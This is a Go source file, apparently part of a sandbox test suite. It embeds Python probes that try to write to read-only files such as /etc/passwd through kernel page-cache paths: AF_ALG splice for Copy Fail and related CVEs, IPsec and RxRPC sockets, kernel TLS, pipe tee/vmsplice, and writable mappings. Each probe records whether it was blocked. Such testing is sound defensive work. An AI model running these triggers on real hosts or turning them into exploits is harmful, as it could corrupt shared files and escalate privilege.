package attack

import "fmt"

// cachePython changes a file that may only be read, in the kernel's memory, and looks whether it is as it was.
const cachePython = `
def page_cache(change):
    """Tries to change a file that may only be read, and fails if it is as it was."""
    path = '/etc/passwd'
    before = open(path, 'rb').read()
    try: change(path)
    finally:
        if open(path, 'rb').read() != before: raise Exception('the page cache was changed')
    raise Held
`

// cacheBattery are attempts to write to pages of files that may only be read, by the parts of the kernel that work on such pages
// in place. A page is one for the whole host: a sandbox that changes it changes the program of its neighbours.
func cacheBattery() battery {
	b := battery{
		name: "page-cache", about: "Code changes a file that it may only read, by a page of it in the kernel's memory: Copy Fail and its like.",
		layer: byFilter, stopped: []string{"EPERM", "ENOSYS"},
		fails: "the parts of the kernel that work on pages in place are reached by sockets and calls that are not on the list; the others make a copy first",
		python: cachePython + `
def alg(kind, name, key):
    """Sends pages of a file to a cipher of the kernel's, which works on them in place."""
    def change(path):
        s = socket.socket(38, socket.SOCK_SEQPACKET, 0)         # AF_ALG
        s.bind((kind, name))
        if key: s.setsockopt(279, 1, key)
        op, _ = s.accept()
        r, w = os.pipe()
        os.splice(os.open(path, os.O_RDONLY), w, 16, offset_src=0)
        os.splice(r, op.fileno(), 16)
        op.recv(16)
    page_cache(change)
def tcp():
    server = socket.create_server(('127.0.0.1', 0))
    a = socket.create_connection(server.getsockname()); b, _ = server.accept()
    return a, b
def send_page(path, s, n=32):
    """Sends pages of a file by a socket, without a copy."""
    r, w = os.pipe()
    os.splice(os.open(path, os.O_RDONLY), w, n, offset_src=0)
    return os.splice(r, s.fileno(), n)
def mapped(path, prot=1, flags=1):
    """Maps a file, shared and to be read."""
    libc.mmap.restype = ctypes.c_void_p
    at = libc.mmap(None, ctypes.c_size_t(4096), prot, flags, os.open(path, os.O_RDONLY), ctypes.c_long(0))
    if at == ctypes.c_void_p(-1).value: raise OSError(ctypes.get_errno(), '')
    return at
def check(result):
    if result < 0: raise OSError(ctypes.get_errno(), '')
    return result
`,
	}
	for _, a := range []struct{ name, kind, algorithm, key string }{
		{"copy-fail (CVE-2026-31431)", "aead", "authencesn(hmac(sha256),cbc(aes))", "struct.pack('=HHI', 8, 1, 16).ljust(8, b'\\0') + bytes(48)"},
		{"copy-fail-gcm", "aead", "gcm(aes)", "bytes(16)"},
		{"copy-fail-rfc4106", "aead", "rfc4106(gcm(aes))", "bytes(20)"},
		{"copy-fail-cipher", "skcipher", "cbc(aes)", "bytes(16)"},
		{"copy-fail-hash", "hash", "sha256", "b''"},
		{"copy-fail-random", "rng", "stdrng", "b''"},
	} {
		b.trials = append(b.trials, trial{
			name: a.name, tries: fmt.Sprintf("pages of a file that may only be read, spliced into the kernel's %s %s", a.kind, a.algorithm),
			code: fmt.Sprintf("return alg(%q, %q, %s)", a.kind, a.algorithm, a.key),
		})
	}
	b.trials = append(b.trials, fragmentTrials()...)
	b.trials = append(b.trials, pageTrials()...)
	return b
}

// fragmentTrials send pages by sockets to a receiver that works on packets in place.
func fragmentTrials() []trial {
	copies := []string{"held", "EPERM", "ENOSYS", "ENOENT", "ENOPROTOOPT", "EOPNOTSUPP", "EINVAL"}
	return []trial{
		{name: "dirty-frag-namespace (CVE-2026-43284)", tries: "a network of its own, in which it may set keys of IPsec", code: "return call('unshare', 0x50000000)", without: inNamespaces},
		{
			name: "dirty-frag-xfrm (CVE-2026-43284)", tries: "keys of IPsec by netlink", layer: byCapabilities, stopped: []string{"EPERM", "EPROTONOSUPPORT", "ENOSYS"},
			code: `
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 6)
s.settimeout(2)
s.send(struct.pack('=IHHII', 16 + 224, 0x10, 5, 1, 0) + bytes(224))       # XFRM_MSG_NEWSA
answer = struct.unpack_from('=IHHIIi', s.recv(1000))
raise OSError(-answer[5], '') if answer[5] else Exception('it was taken')`,
		},
		{name: "dirty-frag-key (CVE-2026-43284)", tries: "keys of IPsec by the socket family for them", code: "return socket.socket(15, socket.SOCK_RAW, 2)"},
		{
			name: "dirty-frag-encap (CVE-2026-43284)", tries: "pages sent to a socket of UDP that takes packets of IPsec off", layer: byKernel, stopped: copies,
			code: `
def change(path):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 0))
    s.setsockopt(socket.IPPROTO_UDP, 100, 2)        # UDP_ENCAP_ESPINUDP
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.connect(s.getsockname())
    send_page(path, c)
page_cache(change)`,
		},
		{name: "dirty-frag-rxrpc (CVE-2026-43500)", tries: "pages sent by RxRPC, which decrypts them in place", code: "return send_page('/etc/passwd', socket.socket(33, socket.SOCK_DGRAM, 2))"},
		{name: "dirty-frag-rxrpc-key (CVE-2026-43500)", tries: "a key of RxRPC", code: "return call('add_key', b'rxrpc', b'x', bytes(64), 64, -2)"},
		{
			name: "fragnesia (CVE-2026-46300)", tries: "pages sent by TCP to a receiver that takes packets of IPsec off", layer: byKernel, stopped: copies,
			code: `
def change(path):
    a, b = tcp()
    b.setsockopt(socket.IPPROTO_TCP, 31, b'espintcp')
    send_page(path, a)
    b.settimeout(1); b.recv(100)
page_cache(change)`,
		},
		{
			name: "tls-of-the-kernel", tries: "pages sent by TCP to a receiver for which the kernel decrypts", layer: byKernel, stopped: append([]string{"EBADMSG", "EIO", "ETIMEDOUT"}, copies...),
			code: `
def change(path):
    a, b = tcp()
    b.setsockopt(socket.IPPROTO_TCP, 31, b'tls')
    b.setsockopt(282, 2, struct.pack('HH', 0x304, 51) + bytes(36))
    send_page(path, a, 64)
    b.settimeout(1); b.recv(100)
page_cache(change)`,
		},
		{name: "tcp-pages", tries: "pages sent by TCP, into which the receiver reads", layer: byKernel, stopped: copies, code: "def change(path):\n    a, b = tcp(); send_page(path, a); b.recv_into(bytearray(32))\npage_cache(change)"},
		{name: "unix-pages", tries: "pages sent by a Unix socket, and spliced on", layer: byKernel, stopped: copies, code: "def change(path):\n    a, b = socket.socketpair(); send_page(path, a); r, w = os.pipe(); os.splice(b.fileno(), w, 32); os.write(w, b'X')\npage_cache(change)"},
		{name: "packet-pages", tries: "pages sent by a packet socket", code: "return send_page('/etc/passwd', socket.socket(17, socket.SOCK_RAW, 0))"},
	}
}

// pageTrials write to pages by mappings and pipes.
func pageTrials() []trial {
	return []trial{
		{name: "pipe-tee", tries: "a page that is in two pipes, and a write to one", layer: byKernel, stopped: []string{"held"}, code: `
def change(path):
    (r, w), (r2, w2) = os.pipe(), os.pipe()
    os.splice(os.open(path, os.O_RDONLY), w, 1, offset_src=0)
    check(libc.tee(r, w2, ctypes.c_size_t(1), 0))
    os.write(w2, b'X'); os.write(w, b'X')
page_cache(change)`},
		{name: "pipe-gift", tries: "a mapping that may only be read, given to a pipe as a gift, and moved into a file of its own", layer: byKernel, stopped: []string{"held", "EPERM", "EFAULT", "EINVAL"}, code: `
def change(path):
    at = mapped(path)
    r, w = os.pipe()
    check(libc.vmsplice(w, struct.pack('QQ', at, 4096), ctypes.c_size_t(1), 8))
    fd = os.open('/tmp/moved', os.O_RDWR | os.O_CREAT)
    check(libc.splice(r, None, fd, None, ctypes.c_size_t(4096), 1))
    os.pwrite(fd, b'X', 0)
page_cache(change)`},
		{name: "map-shared", tries: "a shared mapping that may be written", layer: byMounts, stopped: []string{"EACCES", "EPERM"}, code: "return mapped('/etc/passwd', prot=3)"},
		{name: "map-then-protect", tries: "a shared mapping to be read, which is made one to be written", layer: byMounts, stopped: []string{"EACCES", "EPERM"}, code: "return check(libc.mprotect(ctypes.c_void_p(mapped('/etc/passwd')), ctypes.c_size_t(4096), 3))"},
		{name: "map-loader", tries: "a shared mapping of the dynamic loader that may be written", layer: byMounts, stopped: []string{"EACCES", "EPERM"}, code: "import glob\nreturn mapped(glob.glob('/lib64/ld-linux-*.so.*')[0] if X86 else glob.glob('/lib/ld-linux-*.so.*')[0], prot=3)"},
		{name: "map-populate", tries: "pages of a mapping to be read, brought in to be written", layer: byKernel, stopped: []string{"EINVAL", "EFAULT", "EACCES", "EPERM"}, code: "return check(libc.madvise(ctypes.c_void_p(mapped('/etc/passwd')), ctypes.c_size_t(4096), 23))"},
		{name: "map-remove", tries: "a hole in a file, by its mapping", layer: byKernel, stopped: []string{"EINVAL", "EACCES", "EPERM", "EOPNOTSUPP"}, code: "return check(libc.madvise(ctypes.c_void_p(mapped('/etc/passwd')), ctypes.c_size_t(4096), 9))"},
		{name: "own-memory-by-call", tries: "its own mapping to be read, written to as another process's memory", layer: byKernel, stopped: []string{"EFAULT", "EPERM", "ENOSYS"}, code: "at = mapped('/etc/passwd')\nword = ctypes.create_string_buffer(b'XXXXXXXX')\nreturn call('process_vm_writev', os.getpid(), struct.pack('QQ', ctypes.addressof(word), 8), 1, struct.pack('QQ', at, 8), 1, 0)"},
		{name: "fault-handler", tries: "faults of a mapping that it serves itself", code: "return call('userfaultfd', 1)"},
		{name: "ring-buffers", tries: "a mapping as a buffer of io_uring", code: "return call('io_uring_setup', 8, bytes(120))"},
		{name: "write-at", tries: "a write by a descriptor that was opened to be read", layer: byKernel, stopped: []string{"EBADF"}, code: "return os.pwrite(os.open('/etc/passwd', os.O_RDONLY), b'X', 0)"},
		{name: "truncate", tries: "another length by a descriptor that was opened to be read", layer: byKernel, stopped: []string{"EINVAL", "EBADF"}, code: "return os.ftruncate(os.open('/etc/passwd', os.O_RDONLY), 0)"},
		{name: "copy-range", tries: "a copy within the kernel to a descriptor that was opened to be read", layer: byKernel, stopped: []string{"EBADF", "EINVAL", "EXDEV"}, code: "fd = os.open('/etc/passwd', os.O_RDONLY)\nreturn os.copy_file_range(fd, os.open('/etc/group', os.O_RDONLY), 8)"},
	}
}
